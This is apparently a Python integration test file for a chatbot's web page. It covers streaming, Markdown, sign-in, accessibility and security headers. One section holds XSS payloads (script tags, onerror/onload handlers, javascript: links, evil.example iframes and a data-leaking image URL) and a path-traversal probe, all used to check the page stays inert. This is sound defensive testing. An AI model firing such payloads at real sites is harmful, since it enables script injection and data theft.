"""The bot's chat page: in a real browser (headless Chromium) against a real ``kubechat serve`` and the fake
upstream, and its files and security headers over plain HTTP. Conversations (stop, history, resume, delete,
expiry) are in test_web_history.py."""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import httpx2
import pytest

from tests.integration.conftest import API_KEY, BotFactory
from tests.support.bot_process import bot_environment, kubechat_serve
from tests.support.browser import (
    Tab,
    axe_violations,
    colours,
    fake_upstream,
    page_bot,
    with_axe,
)
from tests.support.fake_openai import FakeOpenAI, Fault, Seen, encoding_for, prompt_tokens
from tests.support.servers import ThreadedServer

if TYPE_CHECKING:
    from playwright.sync_api import Browser

CSP = (
    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self' data:; "
    "base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
)
SCREENSHOT = Path("/tmp/kubechat-page.png")
MARKDOWN_SCREENSHOT = Path("/tmp/kubechat-page-markdown.png")
PHONE_SCREENSHOT = Path("/tmp/kubechat-page-phone.png")

MARKDOWN = """Here is a **summary** of the pods:

1. First, `web-1` is fine
2. Then *web-2*:
   - restarts a lot
   - needs a look

| Pod | Status | Restarts |
|:----|:------:|---------:|
| web-1 | Running | 0 |
| web-2 | CrashLoopBackOff | 12 |

```python
def restarts(pod: str) -> int:
    return COUNTS[pod]  # from the API
```

Read [the docs](https://kubernetes.io/docs/concepts/workloads/pods/) for more."""


def turn_tokens(upstream: FakeOpenAI, seen: Seen) -> int:
    """What the fake reported as ``usage.total_tokens`` for one request it answered."""
    model, messages = seen.body["model"], seen.body["messages"]
    completion = len(encoding_for(model).encode(upstream.answer_for(messages), disallowed_special=()))
    return prompt_tokens(model, messages) + completion


def test_chat_in_the_browser(tab: Tab, bot_url: str, fake: FakeOpenAI, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    page = tab.page
    response = page.goto(bot_url + "/")
    assert response is not None and response.status == 200
    assert response.headers["content-security-policy"] == CSP
    expect(page.locator("#bot-name")).to_have_text("Ada")
    expect(page.locator("#bot-model")).to_have_text("gpt-4o-mini")
    expect(page.locator("#dot")).to_have_class("dot ready")
    expect(page.locator("#tokens")).to_have_text("0 tokens")

    # Enter sends; the reply streams in; the token total is the upstream's usage.
    tab.send("Hello there")
    expect(tab.last_reply()).to_have_text("2 messages; last: Hello there")
    expect(page.locator(".msg.user .bubble")).to_have_text(["Hello there"])
    expect(page.locator("#input")).to_have_value("")
    expect(page.locator("#tokens")).to_have_text(f"{turn_tokens(fake, fake.requests[0])} tokens")

    # The conversation is kept: the second request carries the first turn.
    tab.send("What did I say?")
    expect(tab.last_reply()).to_have_text("4 messages; last: What did I say?")
    expected = sum(turn_tokens(fake, seen) for seen in fake.requests)
    expect(page.locator("#tokens")).to_have_text(f"{expected:,} tokens")

    # While a reply is on its way, Send gives way to Stop and the reset button is disabled.
    fake.fail_next(Fault(delay=0.8))
    tab.send("slow one")
    expect(page.locator("#send")).to_be_disabled()
    expect(page.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    expect(page.locator("#new-chat")).to_be_disabled()
    expect(tab.last_reply()).to_have_text("6 messages; last: slow one")
    expect(page.locator("#send")).to_be_enabled()
    expect(page.get_by_role("button", name="Stop", exact=True)).to_be_hidden()
    expected = sum(turn_tokens(fake, seen) for seen in fake.requests)

    # A refusal before streaming (429 with Retry-After) reads as words; the message comes back to resend.
    fake.fail_next(Fault(status=429, headers={"retry-after": "3"}))
    tab.send("are you there?")
    error = page.locator(".error").last
    expect(error).to_contain_text("Rate limited")
    expect(error).to_contain_text("try again in 3 s")
    expect(page.locator(".msg.user.failed .meta")).to_have_text("Not sent")
    expect(page.locator("#input")).to_have_value("are you there?")
    page.locator("#input").fill("")

    # A stream that breaks midway keeps what arrived, marked, and says it was not saved.
    fake.fail_next(Fault(break_stream_after=2))
    tab.send("tell me more")
    expect(page.locator(".error").last).to_contain_text("The reply was interrupted")
    expect(page.locator(".msg.bot.incomplete .bubble")).to_have_text("8 messages;")
    expect(page.locator("#send")).to_be_enabled()
    expect(page.locator("#tokens")).to_have_text(f"{expected:,} tokens")  # failures cost nothing

    page.screenshot(path=tmp_path / "desktop.png", animations="disabled")
    shutil.copyfile(tmp_path / "desktop.png", SCREENSHOT)

    # "New conversation" starts afresh and keeps the old one, on the bot and in the list: nothing is deleted.
    page.locator("#new-chat").click()
    expect(page.locator("#log .msg, #log .error")).to_have_count(0)
    expect(page.locator("#tokens")).to_have_text("0 tokens")
    tab.send("Hi again")
    expect(tab.last_reply()).to_have_text("2 messages; last: Hi again")
    expect(page.locator("#tokens")).to_have_text(f"{turn_tokens(fake, fake.last)} tokens")
    conversations = page.get_by_role("navigation", name="Conversations")
    expect(conversations.get_by_role("listitem")).to_have_text(["Hi again", "Hello there"])
    assert not [r for r in tab.requests if r.startswith("DELETE ")]

    # Shift+Enter adds a line instead of sending; Enter then sends both lines.
    box = page.locator("#input")
    box.fill("line one")
    box.press("Shift+Enter")
    box.press_sequentially("line two")
    expect(box).to_have_value("line one\nline two")
    expect(page.locator(".msg.user")).to_have_count(1)
    box.press("Enter")
    expect(tab.last_reply()).to_contain_text("line two")
    assert page.locator(".msg.user .bubble").last.text_content() == "line one\nline two"
    assert tab.last_reply().locator("p").text_content() == "4 messages; last: line one\nline two"

    # The page loaded and ran under its CSP without a single violation or script error.
    assert tab.csp_violations() == [] and tab.problems() == [], tab.console
    # ...and the check can see one: an inline script is refused.
    page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.x = 1'; "
        "document.body.append(s); }"
    )
    page.wait_for_timeout(200)
    assert tab.csp_violations(), tab.console
    assert page.evaluate("() => window.x") is None


def test_a_reply_in_markdown(browser: Browser, bot_url: str, fake: FakeOpenAI, tmp_path: Path) -> None:
    """A table, a nested list and a highlighted code block, as elements and as pixels; one-click copies."""
    from playwright.sync_api import expect

    tab = Tab(
        browser,
        bot_url,
        viewport={"width": 1100, "height": 900},
        permissions=["clipboard-read", "clipboard-write"],
    )
    try:
        page = tab.page
        page.goto(bot_url + "/")
        fake.reply = MARKDOWN
        tab.send("How are the pods?")
        tab.wait_until_done()
        reply = tab.last_reply()
        # The Markdown became elements, not asterisks and pipes.
        expect(reply.locator("strong")).to_have_text("summary")
        expect(reply.locator("ol > li")).to_have_count(2)
        expect(reply.locator("ol > li ul > li")).to_have_text(["restarts a lot", "needs a look"])
        expect(reply.locator("table th")).to_have_text(["Pod", "Status", "Restarts"])
        expect(reply.locator("table tbody tr")).to_have_count(2)
        expect(reply.locator("table tbody tr").last.locator("td")).to_have_text(
            ["web-2", "CrashLoopBackOff", "12"]
        )
        assert reply.locator("th").last.evaluate("e => getComputedStyle(e).textAlign") == "right"
        code = reply.locator("pre code.language-python")
        expect(code).to_contain_text("def restarts(pod: str) -> int:")
        expect(code.locator(".hljs-keyword").first).to_have_text("def")
        expect(code.locator(".hljs-comment")).to_have_text("# from the API")
        link = reply.get_by_role("link", name="the docs")
        expect(link).to_have_attribute("href", "https://kubernetes.io/docs/concepts/workloads/pods/")
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        assert "**" not in (reply.text_content() or "") and "|" not in (reply.text_content() or "")

        # On screen: the code is highlighted (several text colours in its block), the header row is shaded.
        block = reply.locator(".code")
        shades = colours(browser, block.screenshot(animations="disabled"))
        keyword = code.locator(".hljs-keyword").first.evaluate("e => getComputedStyle(e).color")
        comment = code.locator(".hljs-comment").evaluate("e => getComputedStyle(e).color")
        assert keyword != comment
        for rgb in (keyword, comment):
            assert _near(shades, rgb) > 10, (rgb, sorted(shades.items(), key=lambda kv: -kv[1])[:12])
        page.screenshot(path=tmp_path / "markdown.png", animations="disabled")
        shutil.copyfile(tmp_path / "markdown.png", MARKDOWN_SCREENSHOT)

        # Copy: the code block's button copies the code; the reply's copies the reply as the bot wrote it.
        reply.locator(".code").get_by_role("button", name="Copy", exact=True).click()
        assert page.evaluate("() => navigator.clipboard.readText()") == (
            "def restarts(pod: str) -> int:\n    return COUNTS[pod]  # from the API\n"
        )
        message = tab.replies().last
        message.locator(".actions").get_by_role("button", name="Copy", exact=True).click()
        expect(page.locator("#announce")).to_have_text("Copied to the clipboard.")
        assert page.evaluate("() => navigator.clipboard.readText()") == MARKDOWN
        assert tab.csp_violations() == [] and tab.problems() == [], tab.console
    finally:
        tab.close()


def _near(shades: dict[str, int], css_rgb: str, tolerance: int = 40) -> int:
    """Pixels within ``tolerance`` (per channel) of a CSS rgb() colour: text is antialiased."""
    r, g, b = (int(x) for x in re.findall(r"\d+", css_rgb)[:3])
    total = 0
    for hexa, count in shades.items():
        pr, pg, pb = int(hexa[1:3], 16), int(hexa[3:5], 16), int(hexa[5:7], 16)
        if abs(pr - r) <= tolerance and abs(pg - g) <= tolerance and abs(pb - b) <= tolerance:
            total += count
    return total


# -- hostile replies ----------------------------------------------------------------------------

PWN = "window.__pwned = 1"
TINY_PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5E"
    "rkJggg=="
)
HOSTILE = {
    "html": '<b>bold</b><div class="x" style="position:fixed;inset:0">cover</div>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/"><input name=q></form>'
    f'<svg onload="{PWN}"><circle r=5 /></svg><link rel=stylesheet href="https://evil.example/s.css">'
    '<object data="https://evil.example/o"></object>'
    '<video src="https://evil.example/v.mp4" autoplay></video>',
    "script": f"<script>{PWN};alert(1)</script>\n\n<script src=https://evil.example/x.js></script>",
    "javascript-link": "[click me](javascript:alert(document.domain)) [upper](JaVaScRiPt:alert(1)) "
    "<javascript:alert(1)> [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
    '<a href="javascript:alert(1)">raw</a> [vb](vbscript:msgbox(1)) [rel](/chat) [proto](//evil.example/x)',
    "img-onerror": f'<img src=x onerror="{PWN}"> ![x](x" onerror="alert(1))'
    ' <img src="data:image/svg+xml,<svg onload=alert(1)>"> ![relative](leak.png)',
    "remote-image": "![the secret](https://evil.example/leak.png?conversation=secret) "
    f'<img src="https://evil.example/a.png"> ![tiny]({TINY_PNG})',
    "long-line": "A" * 20_000
    + "\n\n```\n"
    + "x = 1; " * 1500
    + "\n```\n\n| "
    + " | ".join(["col"] * 60)
    + " |\n|"
    + "---|" * 60,
}
# What a reply may contain, and nothing else: no element that runs code, loads something or takes input.
FORBIDDEN = (
    "script, img, picture, iframe, frame, object, embed, svg, math, style, link, meta, form, input, "
    "button:not(.copy), textarea, select, video, audio, source, track, base"
)
LOADING = ("src", "srcset", "action", "formaction", "xlink:href", "style", "background", "poster", "data")
# Every request the page may make: itself, its files and its API.
PAGE_REQUESTS = re.compile(
    r"^(GET /|GET /static/[\w./-]+|GET /info|POST /chat|(GET|DELETE) /sessions/[\w-]+)$"
)


def _check_inert(tab: Tab) -> None:
    page = tab.page
    assert page.locator(f"#log :is({FORBIDDEN})").count() == 0
    found = page.evaluate(
        """(loading) => {
            const bad = [];
            for (const e of document.querySelectorAll("#log *")) {
                for (const a of e.attributes) {
                    if (/^on/i.test(a.name) || loading.includes(a.name)) bad.push(`${e.tagName} ${a.name}`);
                }
                const href = e.getAttribute("href");
                if (href !== null && !/^(https?:|mailto:)/i.test(href)) bad.push(`${e.tagName} href=${href}`);
            }
            return bad;
        }""",
        list(LOADING),
    )
    assert found == []
    assert page.evaluate("() => window.__pwned") is None
    assert tab.dialogs == []
    assert tab.refused == [], tab.refused  # nothing was even asked for outside the bot
    origin = f"http://{tab.bot_origin}"
    made = {r.replace(origin, "", 1).split("?")[0] for r in tab.requests}
    assert {r for r in made if not PAGE_REQUESTS.match(r)} == set()
    assert "GET /static/app.js" in made  # (the requests are seen)


def test_hostile_replies_create_nothing_that_runs_or_loads(
    browser: Browser, bot_url: str, fake: FakeOpenAI
) -> None:
    from playwright.sync_api import expect

    tab = Tab(browser, bot_url, viewport={"width": 1024, "height": 700})
    try:
        page = tab.page
        page.goto(bot_url + "/")
        for name, reply in HOSTILE.items():
            fake.reply = reply
            tab.send(f"attack: {name}")
            tab.wait_until_done()
            page.wait_for_timeout(50)  # an onerror or onload would have fired by now
            _check_inert(tab)
        replies = tab.replies()
        # Raw HTML is shown as the text it is, and the user's own message is text too.
        expect(replies.nth(0)).to_contain_text("<b>bold</b>")
        expect(replies.nth(1)).to_contain_text("<script>window.__pwned = 1;alert(1)</script>")
        expect(replies.nth(2).get_by_role("link")).to_have_count(0)  # no link survives, each is text
        expect(replies.nth(2)).to_contain_text("[click me](javascript:alert(document.domain))")
        # An image is never loaded: a web URL becomes a link to click, anything else stays text.
        remote = replies.nth(4).get_by_role("link", name="Image: the secret")
        expect(remote).to_have_attribute("href", "https://evil.example/leak.png?conversation=secret")
        expect(replies.nth(4)).to_contain_text("[Image: tiny]")
        # A very long line wraps; wide code and tables scroll inside the reply, reachable by keyboard.
        assert page.evaluate("() => document.documentElement.scrollWidth") <= 1024
        long_reply = replies.nth(5)
        assert long_reply.evaluate("e => e.getBoundingClientRect().right") <= 1024
        expect(long_reply.locator("pre")).to_have_attribute("tabindex", "0")
        expect(long_reply.locator(".table")).to_have_attribute("tabindex", "0")

        # A user's message is text whatever it holds.
        fake.reply = None
        tab.send("<img src=x onerror=alert(2)><i>hi</i>")
        expect(page.locator(".msg.user .bubble").last).to_have_text("<img src=x onerror=alert(2)><i>hi</i>")
        tab.wait_until_done()
        _check_inert(tab)
        assert tab.csp_violations() == [] and tab.problems() == [], tab.console
    finally:
        tab.close()


def test_a_megabyte_reply_streams_and_the_page_stays_responsive(
    browser: Browser, bot_url: str, fake: FakeOpenAI
) -> None:
    """1 MB of Markdown with hostile bits in it (about a thousand deltas): rendered progressively, inert,
    and the page still answers input while and after it arrives."""
    from playwright.sync_api import expect

    section = (
        "## Part {i}\n\n"
        + "**bold**,`code`,[ok](https://example.org/{i}),<img\tsrc=x\tonerror=alert({i})>," * 12
        + "\n\n- item\t"
        + "lorem," * 90
        + "\n"
    )
    reply = ""
    i = 0
    while len(reply) < 1_000_000:
        reply += section.format(i=i) + " "
        i += 1
    tab = Tab(browser, bot_url, viewport={"width": 1024, "height": 700})
    try:
        page = tab.page
        page.goto(bot_url + "/")
        fake.reply = reply
        fake.fail_next(Fault(chunk_delay=0.002))
        tab.send("everything, please")
        # While it streams, the reply is already Markdown, and typing still works.
        expect(tab.last_reply().locator("h2").first).to_have_text("Part 0", timeout=30_000)
        page.locator("#input").press_sequentially("still here")
        expect(page.locator("#input")).to_have_value("still here")
        tab.wait_until_done()
        last = tab.last_reply()
        expect(last.locator("h2")).to_have_count(i)
        assert len(last.text_content() or "") > 500_000
        _check_inert(tab)
        # ...and it goes on: the next turn is answered and shown.
        page.locator("#input").fill("")
        fake.reply = None
        tab.send("and now?")
        expect(tab.last_reply()).to_contain_text("last: and now?")
        assert page.evaluate("() => 1 + 1") == 2
        assert tab.problems() == [], tab.console
    finally:
        tab.close()


# -- sign-in (the page's side; the bot's access control is another change) ----------------------


def test_refusals_read_as_words(tab: Tab, bot_url: str) -> None:
    """401, 403 and 429 as the access-control contract has them (OpenAI's error shape, Retry-After or
    x-ratelimit-reset-*), through the page's own module in the browser."""
    page = tab.page
    page.goto(bot_url + "/")
    said = page.evaluate(
        """async () => {
            const { describe, formatWait } = await import("./static/api.js");
            const say = (status, code, headers) =>
                describe(status, { type: "x", code, message: "m" }, new Headers(headers || {})).join(" ");
            const inAnHour = new Date(Date.now() + 3600 * 1000).toUTCString();
            return {
                missing: say(401, "invalid_api_key", { "WWW-Authenticate": "Bearer" }),
                forbidden: say(403, "permission_denied"),
                rate: say(429, "rate_limit_exceeded", { "Retry-After": "42" }),
                budget: say(429, "insufficient_quota", { "x-ratelimit-reset-tokens": "2h5m0s" }),
                dated: say(429, "rate_limit_exceeded", { "Retry-After": inAnHour }),
                unknown: say(429, "", {}),
                days: formatWait(3 * 86400),
                minutes: formatWait(75),
            };
        }"""
    )
    assert said["missing"].startswith("Sign-in needed.")
    assert said["forbidden"].startswith("Not allowed.") and "does not give you the right" in said["forbidden"]
    assert said["rate"] == "Rate limit reached. You are sending more than this bot allows; try again in 42 s."
    clock = r"\d\d:\d\d(?: [AP]M)?"  # as the person's locale writes it
    assert re.fullmatch(rf"Budget used up\. .* it frees in 2 h 5 min \(at {clock}\)\.", said["budget"])
    assert re.search(rf"try again in (59 min 5\d s|1 h \(at {clock}\))\.$", said["dated"]), said["dated"]
    assert said["unknown"] == "Too many requests. M. Try again in a moment."
    assert re.fullmatch(rf"in 3 days \(on \w+day {clock}\)", said["days"])
    assert said["minutes"] == "in 1 min 15 s"


def test_a_key_given_in_this_tab_goes_with_every_api_call(tab: Tab, bot_url: str) -> None:
    """Once the tab holds a key (what the sign-in dialog stores), every call to the bot carries it as a bearer
    token, and it is kept in this tab's sessionStorage only."""
    from playwright.sync_api import expect

    page = tab.page
    page.goto(bot_url + "/")
    page.evaluate("() => sessionStorage.setItem('kubechat.key:/', 'team-a-key')")
    calls: list[tuple[str, str | None]] = []
    page.on("request", lambda r: calls.append((f"{r.method} {r.url}", r.headers.get("authorization"))))
    page.reload()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    tab.send("hello")
    expect(tab.last_reply()).to_have_text("2 messages; last: hello")
    page.get_by_role("navigation", name="Conversations").get_by_role(
        "button", name="Delete", exact=True
    ).click()
    expect(page.get_by_role("navigation", name="Conversations").get_by_role("listitem")).to_have_count(0)
    api = [
        (what, auth) for what, auth in calls if "/static/" not in what and not what.endswith(bot_url + "/")
    ]
    assert {what.split(" ")[0] + " " + what.split("/", 3)[3] for what, _ in api} >= {"GET info", "POST chat"}
    assert any(what.startswith("DELETE ") for what, _ in api)
    assert all(auth == "Bearer team-a-key" for _, auth in api), api
    assert page.evaluate("() => JSON.stringify(localStorage)").find("team-a-key") == -1
    # Sign out forgets it: the next calls go without.
    page.get_by_role("button", name="Sign out").click()
    calls.clear()
    tab.send("and now")
    expect(tab.last_reply()).to_have_text("2 messages; last: and now")
    assert [auth for what, auth in calls if what.startswith("POST ")] == [None]


# -- accessibility ------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_accessibility_with_axe(browser: Browser, bot_url: str, fake: FakeOpenAI, scheme: str) -> None:
    """A page with Markdown, a scrolling code block, an error, a stopped reply and a history: no serious or
    critical axe-core violation, in either colour scheme."""
    from playwright.sync_api import expect

    tab = with_axe(Tab(browser, bot_url, viewport={"width": 1280, "height": 800}, color_scheme=scheme))
    try:
        page = tab.page
        page.goto(bot_url + "/")
        expect(page.locator("#dot")).to_have_class("dot ready")
        assert not (found := axe_violations(page)), found
        fake.reply = MARKDOWN + "\n\n```\n" + "wide " * 80 + "\n```"
        tab.send("a reply with everything")
        tab.wait_until_done()
        fake.reply = " ".join(f"word{i}" for i in range(80))
        fake.fail_next(Fault(chunk_delay=0.1))
        tab.send("this one is stopped")
        expect(tab.last_reply()).to_contain_text("word2")
        page.get_by_role("button", name="Stop", exact=True).click()
        expect(page.locator(".msg.bot.incomplete")).to_be_visible()
        fake.reply = None
        fake.fail_next(Fault(status=503))
        tab.send("this one fails")
        expect(page.locator(".error")).to_be_visible()
        assert not (found := axe_violations(page)), found
        page.locator("#new-chat").click()
        tab.send("a second conversation")
        tab.wait_until_done()
        expect(page.get_by_role("navigation", name="Conversations").get_by_role("listitem")).to_have_count(2)
        page.get_by_role("button", name="a reply with everything").click()
        expect(page.locator("#log table")).to_be_visible()
        assert page.evaluate("() => matchMedia('(prefers-color-scheme: dark)').matches") == (scheme == "dark")
        assert not (found := axe_violations(page)), found
        # The phone layout, with its conversation panel open.
        page.set_viewport_size({"width": 390, "height": 844})
        page.get_by_role("button", name="Show conversations").click()
        expect(page.get_by_role("navigation", name="Conversations")).to_be_visible()
        assert not (found := axe_violations(page)), found
    finally:
        tab.close()


# -- other bots ---------------------------------------------------------------------------------


def test_trimmed_history_on_a_phone(browser: Browser, tmp_path: Path) -> None:
    """A phone-sized screen: nothing wider than the screen, the notice when older turns were left out, and the
    conversations in a panel that slides over and closes with Escape."""
    from playwright.sync_api import expect

    with page_bot(max_context_tokens="300", max_reply_tokens="100") as (_, bot):
        tab = Tab(
            browser,
            bot.url,
            viewport={"width": 390, "height": 844},
            device_scale_factor=2,
            is_mobile=True,
            has_touch=True,
        )
        try:
            page = tab.page
            page.goto(bot.url + "/")
            expect(page.locator("#bot-model")).to_have_text("gpt-4o-mini")
            for i in range(8):
                tab.send(f"turn {i}: tell me about the weather in a few words")
                expect(tab.last_reply()).to_contain_text(f"last: turn {i}:")
                if page.locator(".notice").count():
                    break
            expect(page.locator(".notice").last).to_contain_text("older messages were left out")
            assert page.evaluate("() => document.documentElement.scrollWidth") <= 390
            expect(page.locator("#new-chat")).to_be_visible()
            page.screenshot(path=tmp_path / "phone.png", animations="disabled")
            shutil.copyfile(tmp_path / "phone.png", PHONE_SCREENSHOT)

            side = page.get_by_role("navigation", name="Conversations")
            expect(side).to_be_hidden()
            toggle = page.get_by_role("button", name="Show conversations")
            toggle.click()
            expect(side).to_be_visible()
            expect(toggle).to_have_attribute("aria-expanded", "true")
            expect(side.get_by_role("listitem")).to_have_text(
                ["turn 0: tell me about the weather in a few words"]
            )
            expect(side.get_by_role("button", name="turn 0: tell me about")).to_be_focused()
            page.locator("#input").focus()  # the conversation under the panel is inert while it is open
            expect(page.locator("#input")).not_to_be_focused()
            page.keyboard.press("Escape")
            expect(side).to_be_hidden()
            expect(toggle).to_be_focused()
            assert tab.problems() == [], tab.console
        finally:
            tab.close()


def test_a_bot_without_a_key_says_so(browser: Browser) -> None:
    from playwright.sync_api import expect

    with fake_upstream() as fake:
        env = {k: v for k, v in bot_environment(fake).items() if k != "OPENAI_API_KEY"}
        with kubechat_serve(env) as bot:
            tab = Tab(browser, bot.url, viewport={"width": 1024, "height": 700})
            try:
                page = tab.page
                page.goto(bot.url + "/")
                expect(page.locator("#bot-model")).to_have_text("gpt-4o-mini · not ready")
                expect(page.locator("#dot")).to_have_class("dot not-ready")
                tab.send("hello?")
                expect(page.locator(".error")).to_contain_text("The bot is not ready.")
                expect(page.locator(".error")).to_contain_text(re.compile(r"api.key", re.IGNORECASE))
            finally:
                tab.close()


# -- plain HTTP ------------------------------------------------------------------------------


# The modules app.js imports (the page names only app.js).
MODULES = ("api.js", "history.js", "markdown.js", "messages.js", "signin.js", "sse.js")


class _Inline(HTMLParser):
    """Finds what a strict CSP would refuse in a page: inline scripts, styles, handlers."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.scripts: list[str] = []
        self.styles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag == "style" or (tag == "script" and "src" not in named):
            self.found.append(f"<{tag}>")
        self.found += [f"{tag}[{name}]" for name in named if name == "style" or name.startswith("on")]
        if tag == "script" and named.get("src"):
            self.scripts.append(named["src"] or "")
        if tag == "link" and named.get("rel") == "stylesheet":
            self.styles.append(named.get("href") or "")


def test_page_files_are_served_with_security_headers(bot: ThreadedServer) -> None:
    page = httpx2.get(bot.url + "/").text
    parser = _Inline()
    parser.feed(page)
    assert parser.found == []
    # Every script and stylesheet the page names is this bot's own file, relative (for a path prefix).
    assert "static/app.js" in parser.scripts and "static/vendor/purify.min.js" in parser.scripts
    assert "static/style.css" in parser.styles and "static/vendor/a11y-dark.min.css" in parser.styles
    scripts = ("text/javascript; charset=utf-8", "application/javascript")
    html = ("text/html; charset=utf-8",)
    files: dict[str, tuple[str, ...]] = {"/": html, "/static/index.html": html}
    files |= {f"/{src}": scripts for src in parser.scripts}
    files |= {f"/static/{name}": scripts for name in MODULES}
    files |= {f"/{href}": ("text/css; charset=utf-8",) for href in parser.styles}
    for path, content_types in files.items():
        response = httpx2.get(bot.url + path)
        assert response.status_code == 200, path
        assert response.headers["content-type"] in content_types, path
        assert response.headers["content-security-policy"] == CSP, path
        assert response.headers["x-content-type-options"] == "nosniff", path
        assert response.headers["referrer-policy"] == "no-referrer", path
    # The page's own code never hands a string to the HTML parser.
    for name in ("app.js", *MODULES):
        source = httpx2.get(f"{bot.url}/static/{name}").text
        assert "innerHTML" not in source and "insertAdjacentHTML" not in source, name
    missing = httpx2.get(bot.url + "/static/nope.js")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"
    assert httpx2.get(bot.url + "/static/%2e%2e/app.py").status_code == 404
    # The API documentation loads its own scripts: the page's CSP is not applied to it.
    assert "content-security-policy" not in httpx2.get(bot.url + "/docs").headers


def test_vendored_libraries_are_the_pinned_ones_with_their_licences() -> None:
    vendor = Path(__file__).resolve().parents[2] / "chatbot_service" / "static" / "vendor"
    banners = {
        "purify.min.js": "DOMPurify 3.5.0",
        "highlight.min.js": "Highlight.js v11.12.0",
        "a11y-dark.min.css": "Theme: a11y-dark",
        "a11y-light.min.css": "Theme: a11y-light",
    }
    for name, banner in banners.items():
        assert banner in (vendor / name).read_text()[:600], name
    assert (vendor / "markdown-it.min.js").read_text().startswith("(function(e,t){")
    readme = (vendor / "README.md").read_text()
    for pin in ("markdown-it 15.0.3", "dompurify 3.5.0", "@highlightjs/cdn-assets 11.12.0"):
        assert pin in readme
    for licence in (
        "markdown-it",
        "dompurify",
        "highlight.js",
        "entities",
        "linkify-it",
        "mdurl",
        "punycode.js",
        "uc.micro",
    ):
        assert (vendor / f"{licence}.LICENSE.txt").stat().st_size > 500, licence


def test_info_names_the_bot_and_never_a_secret(start_bot: BotFactory, bot_env: dict[str, str]) -> None:
    with start_bot(bot_env | {"KUBECHAT_BOT_NAME": "helpdesk"}) as bot:
        response = httpx2.get(bot.url + "/info")
        assert response.status_code == 200
        assert response.json() == {
            "name": "helpdesk",
            "model": "gpt-4o-mini",
            "ready": True,
            "auth_required": False,
        }
        assert API_KEY not in response.text and API_KEY[3:] not in response.text
    with start_bot({k: v for k, v in bot_env.items() if k != "OPENAI_API_KEY"}) as bot:
        assert httpx2.get(bot.url + "/info").json() == {
            "name": "kubechat",
            "model": "gpt-4o-mini",
            "ready": False,
            "auth_required": False,
        }


def test_a_bot_with_access_asks_for_a_key_and_keeps_it_for_the_tab(
    browser: Browser, bot_env: dict[str, str], tmp_path: Path
) -> None:
    """Against a bot whose access control is real (spec.access with API keys): the page's first call is
    refused with 401, the sign-in dialog asks for a key, a wrong one is refused and asked for again, the
    right one gets the answer, and the key stays in this tab's sessionStorage only."""
    from playwright.sync_api import expect

    from tests.support.mounted import write_keys

    key = "kc-page-7a1c3e5b9d2f4a68"
    write_keys(tmp_path / "keys", {"page-user": key})
    env = bot_env | {"KUBECHAT_ACCESS": '{"apiKeys": {}}', "KUBECHAT_API_KEYS_DIR": str(tmp_path / "keys")}
    with kubechat_serve(env) as bot:
        context = browser.new_context(locale="en-US")
        try:
            page = context.new_page()
            page.goto(bot.url + "/")
            box = page.get_by_role("textbox", name="Message")
            box.fill("hello")
            box.press("Enter")
            dialog = page.get_by_role("dialog", name="Sign in")
            expect(dialog).to_be_visible()
            expect(dialog).to_contain_text("needs an access key")
            dialog.get_by_label("Access key").fill("kc-wrong-000000000000")
            dialog.get_by_label("Access key").press("Enter")
            expect(dialog).to_contain_text("That key was not accepted")
            dialog.get_by_label("Access key").fill(key)
            dialog.get_by_label("Access key").press("Enter")
            expect(dialog).to_be_hidden()
            expect(page.locator(".msg.bot").last).to_contain_text("last: hello")
            stored = page.evaluate(
                "() => [sessionStorage.getItem('kubechat.key:/'), JSON.stringify(localStorage)]"
            )
            assert stored[0] == key and key not in stored[1]
            expect(page.get_by_role("button", name="Sign out")).to_be_visible()
        finally:
            context.close()


def test_a_real_rate_limit_reads_as_words_with_the_time_until_it_frees(
    browser: Browser, bot_env: dict[str, str], tmp_path: Path
) -> None:
    """A bot whose spec.limits allow one request a minute per identity: the page's second message is refused
    by the real limiter (429, Retry-After) and said in words with the wait."""
    from playwright.sync_api import expect

    from tests.support.mounted import write_keys

    key = "kc-page-limited-3c5e7a9b1d2f"
    write_keys(tmp_path / "keys", {"page-user": key})
    env = bot_env | {
        "KUBECHAT_ACCESS": '{"apiKeys": {}}',
        "KUBECHAT_API_KEYS_DIR": str(tmp_path / "keys"),
        "KUBECHAT_LIMITS": '{"perIdentity": {"requestsPerMinute": 1}}',
    }
    with kubechat_serve(env) as bot:
        context = browser.new_context(locale="en-US")
        try:
            page = context.new_page()
            page.goto(bot.url + "/")
            page.evaluate(f"() => sessionStorage.setItem('kubechat.key:/', {key!r})")
            page.reload()
            box = page.get_by_role("textbox", name="Message")
            box.fill("first")
            box.press("Enter")
            expect(page.locator(".msg.bot").last).to_contain_text("last: first")
            box.fill("second")
            box.press("Enter")
            refusal = page.get_by_text("Rate limit reached.").locator("..")  # the message around the heading
            expect(refusal).to_be_visible()
            expect(refusal).to_contain_text(re.compile(r"try again in (\d+ s|1 min( \d+ s)?)\."))
        finally:
            context.close()
